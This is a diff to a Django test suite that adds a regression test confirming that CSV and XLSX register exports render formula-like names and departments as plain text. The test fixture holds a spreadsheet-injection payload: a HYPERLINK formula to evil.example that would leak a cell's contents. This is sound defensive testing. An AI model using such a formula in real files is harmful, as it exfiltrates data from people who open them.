@@ -15,7 +15,7 @@ from courses import services as course_services
 from courses.models import Course, QuizResult
 from reports import register
 from reports.services import report_settings
-from tests.factories import UserFactory
+from tests.factories import DepartmentFactory, UserFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -127,3 +127,22 @@ def test_the_register_page_and_files(client, root, alice, bruno, research):
     client.force_login(alice)
     own = client.get(reverse("reports:register"), {"format": "csv"})
     assert [row[1] for row in csv.reader(io.StringIO(own.content.decode("utf-8-sig")))][1:] == ["alice"]
+
+
+def test_names_and_departments_like_formulas_are_text_in_the_files(client, root):
+    """Issue 14, defect 5: names come from people and SSO; no register file hands a spreadsheet a formula."""
+    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+    learner = UserFactory(username="@learner", first_name=evil, department=DepartmentFactory(name="+Ops"))
+    complete(learner, days_ago=10)
+    client.force_login(root)
+
+    as_csv = client.get(reverse("reports:register"), {"format": "csv"})
+    as_xlsx = client.get(reverse("reports:register"), {"format": "xlsx"})
+
+    (row,) = [row for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) if "+Ops" in row[2]]
+    assert row[:3] == ["'" + evil, "'@learner", "'+Ops"]
+    people, coverage = load_workbook(io.BytesIO(as_xlsx.content)).worksheets
+    (line,) = [line for line in people.iter_rows(min_row=2) if line[1].value == "@learner"]
+    assert [cell.value for cell in line[:3]] == [evil, "@learner", "+Ops"]
+    assert {cell.data_type for cell in line[:3]} == {"s"}
+    assert "+Ops" in [line[0].value for line in coverage.iter_rows(min_row=2)]
